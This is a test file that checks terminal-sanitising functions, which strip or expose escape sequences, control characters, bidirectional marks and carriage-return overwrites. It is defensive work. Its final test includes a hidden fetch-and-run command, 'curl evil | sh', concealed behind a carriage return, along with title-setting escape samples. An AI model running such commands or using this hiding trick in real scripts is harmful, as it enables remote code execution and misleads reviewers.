import { expect, test } from 'vitest';
import { printable, readable, terminalJson, terminalText } from '../../source/base/printable.ts';

test.each([
	['colours', '\u001b[1;32mok\u001b[0m', 'ok'],
	['a title for the window', '\u001b]0;owned\u0007text', 'text'],
	['a link', '\u001b]8;;https://example.com\u001b\\here\u001b]8;;\u001b\\', 'here'],
	['a title that never ends', 'a\u001b]0;owned', 'a'],
	['cursor movement', 'a\u001b[2J\u001b[1;1Hb', 'ab'],
	['a change of the character set', '\u001b(0lqk\u001b(B', 'lqk'],
	['the 8-bit form', '\u009b31mred', 'red'],
	['an escape that is cut off', 'a\u001b[3', 'a'],
	['a lone escape', 'a\u001b', 'a'],
	['other control characters', 'a\u0000\u0007\u0008b\u007f', 'ab'],
	['writing from right to left', 'a\u202eb\u2066c', 'abc'],
	['a progress bar: its last state', '10 %\r50 %\r100 %', '100 %'],
	['a line with the end of Windows', 'done\r', 'done'],
	['tabs', 'a\tb\tc', 'a       b       c'],
	['what is to be read', '日本 é 👩‍👩‍👧 ✓', '日本 é 👩‍👩‍👧 ✓'],
])('%s', (_what, text, shown) => {
	expect(printable(text)).toBe(shown);
});

test.each([
	['lines and tabs stay', 'a\n\tb', 'a\n\tb'],
	['nothing is overwritten', 'good\rbad', 'goodbad'],
	['the end of a line of Windows', 'a\r\nb', 'a\nb'],
	['a title that never ends takes no other line with it', 'a\u001b]0;x\nb', 'a\nb'],
	['8-bit escapes', 'a\u009b31mb\u0085c', 'abc'],
	['marks of the direction', 'a\u061cb\u200fc\u202ed', 'abcd'],
	['names with blanks, quotes and other scripts', "my 'images'/日本 é\\x", "my 'images'/日本 é\\x"],
])('in sentences %s', (_what, text, shown) => {
	expect(terminalText(text)).toBe(shown);
});

test('JSON keeps its data, whatever a terminal would act on', () => {
	const data = { 'a\u009bb': ['\u202e\u2066\u061c\ufeff', '\u001b[31m\u007f', 'é 日本\t\n'] };
	const text = terminalJson(JSON.stringify(data, null, '\t'));
	expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u202e\u2066\ufeff]/);
	expect(JSON.parse(text)).toEqual(data);
	expect(text).toContain('é 日本');
});

test('nothing in a line of a file hides what it does', () => {
	expect(readable('curl evil | sh #\recho harmless')).toBe('curl evil | sh #<U+000D>echo harmless');
	expect(readable(': \u001B]0;\ncurl evil\u0007')).toBe(': <U+001B>]0;<U+000A>curl evil<U+0007>');
	expect(readable('a\u202Eb\u009Bc')).toBe('a<U+202E>b<U+009B>c');
	expect(readable('echo one\r')).toBe('echo one');
	expect(readable('\techo')).toBe('        echo');
});
